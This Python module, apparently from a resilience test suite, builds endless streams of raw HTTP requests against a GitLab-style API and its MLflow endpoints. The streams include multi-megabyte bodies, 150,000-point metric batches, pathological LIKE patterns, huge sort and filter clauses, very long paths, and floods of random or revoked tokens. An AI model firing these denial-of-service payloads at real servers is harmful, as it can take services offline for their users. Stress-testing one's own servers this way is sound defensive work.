"""What strangers and guests send to stop a server: each kind gives requests, one after the other, without end."""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, cycle

API = "/api/v4"
MIB = 1 << 20
JSON, FORM = "application/json", "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Host:
    """What attackers know: a project with an experiment and a run, a guest's token, and one that was revoked."""

    project: int
    guest: str
    revoked: str
    experiment: str = ""
    run: str = ""

    def mlflow(self, call: str) -> str:
        """The path of a call of MLflow."""
        return f"{API}/projects/{self.project}/ml/mlflow/api/2.0/mlflow/{call}"


Requests = Iterator[bytes]
Attack = Callable[[Host], Requests]


def request(method: str, path: str, token: str | None = None, body: bytes = b"", kind: str = JSON) -> bytes:
    """A whole request."""
    lines = [f"{method} {path} HTTP/1.1", "Host: x", "Connection: close"]
    if token:
        lines.append(f"PRIVATE-TOKEN: {token}")
    if body:
        lines += [f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, "", ""]).encode() + body


def _lists(host: Host) -> Requests:
    scopes = b'{"name":"x","scopes":[' + b"0," * (MIB // 2) + b"0]}"
    metrics = b'{"metrics":[' + b"0," * (MIB * 3 // 2) + b"0]}"
    yield from cycle(
        [
            request("POST", f"{API}/users/1/personal_access_tokens", None, scopes),
            request("POST", host.mlflow("runs/log-batch"), "myd_wrong", metrics),
            request("POST", host.mlflow("runs/log-batch"), host.guest, metrics),
        ]
    )


def _bodies(host: Host) -> Requests:
    pairs, escapes = b"&" * (8 * MIB - 9), b'{"run_ids":["' + b"\\\\u0000" * MIB + b'"]}'
    points = b",".join(b'{"key":"m","value":1,"timestamp":1,"step":%d}' % step for step in range(150_000))
    yield from cycle(
        [
            request("POST", f"{API}/projects", None, pairs, FORM),
            request("POST", host.mlflow("runs/search"), host.guest, escapes),
            request("POST", host.mlflow("runs/search"), host.guest, pairs, FORM),
            request("POST", host.mlflow("runs/log-batch"), host.guest, b'{"run_id":"x","metrics":[' + points + b"]}"),
        ]
    )


def _orders(host: Host) -> Requests:
    texts = [", ".join(f"metrics.m{20 * text + key} DESC" for key in range(20)) for text in range(20)]
    logged = [{"field_name": f"metrics.m{key}"} for key in range(100)]
    for wanted in cycle([texts, texts[:1]]):
        body = {"experiment_ids": [host.experiment], "max_results": 5, "order_by": wanted}
        yield request("POST", host.mlflow("runs/search"), host.guest, json.dumps(body).encode())
        body = {"experiment_ids": [host.experiment], "max_results": 5, "order_by": logged[: len(wanted)]}
        yield request("POST", host.mlflow("logged-models/search"), host.guest, json.dumps(body).encode())


def _patterns(host: Host) -> Requests:
    for pattern in cycle(["%" + "a" * 9_900 + "b%", "%a" * 400 + "b", "%" + "_" * 400 + "b%"]):
        body = {"experiment_ids": [host.experiment], "filter": f"tags.long LIKE '{pattern}'"}
        yield request("POST", host.mlflow("runs/search"), host.guest, json.dumps(body).encode())


def _answers(host: Host) -> Requests:
    search = json.dumps({"experiment_ids": [host.experiment], "max_results": 1000}).encode()
    yield from cycle(
        [
            request("POST", host.mlflow("runs/search"), host.guest, search),
            request("GET", host.mlflow("experiments/list"), host.guest),
            request("GET", host.mlflow(f"runs/get?run_id={host.run}"), host.guest),
        ]
    )


def _cursors(host: Host) -> Requests:
    for number in count():
        body = json.dumps(
            {"experiment_ids": [host.experiment], "page_token": f"{number:x}{secrets.token_urlsafe(20)}"}
        ).encode()
        yield request("POST", host.mlflow("runs/search"), host.guest, body)


def _limits(host: Host) -> Requests:
    experiments = [str(number) for number in range(9_000)]
    clauses = " AND ".join(f"metrics.m{number} > 0" for number in range(100))
    body = json.dumps({"experiment_ids": experiments, "filter": clauses}).encode()
    yield from cycle(
        [
            request("GET", f"{API}/projects?search={'a' * 60_000}"),
            request("GET", f"{API}/projects?search={'a' * 4_000}", host.guest),
            request("POST", host.mlflow("runs/search"), host.guest, body),
        ]
    )


def _logins(_host: Host) -> Requests:
    while True:
        yield request("GET", f"{API}/user", secrets.token_urlsafe(32))
        yield request("GET", f"{API}/user", f"myd_{secrets.token_urlsafe(32)}")


def _paths(_host: Host) -> Requests:
    for number in count():
        long = f"{number}".ljust(5_000, "a")
        yield request("GET", f"{API}/projects/{long}%2F{long}/packages/ml_models/candidate:{long}/files/f")


def _documents(_host: Host) -> Requests:
    for path in cycle(["/-/readiness", "/openapi.json", "/docs", f"/-/{'a' * 15_000}", "/metrics"]):
        yield request("GET", path)


def _revoked(host: Host) -> Requests:
    yield from cycle([request("GET", f"{API}/user", host.revoked), request("GET", f"{API}/projects", host.revoked)])


ATTACKS: dict[str, Attack] = {
    "lists in which all is wrong": _lists,
    "bodies that are dear to parse": _bodies,
    "orders by many keys": _orders,
    "patterns on long texts": _patterns,
    "answers as large as can be": _answers,
    "made-up page tokens": _cursors,
    "questions beyond the engine": _limits,
    "wrong tokens": _logins,
    "long paths": _paths,
    "probes and documents": _documents,
    "a token that was revoked": _revoked,
}
TRICKLE = "bodies that never end"  # that needs connections instead
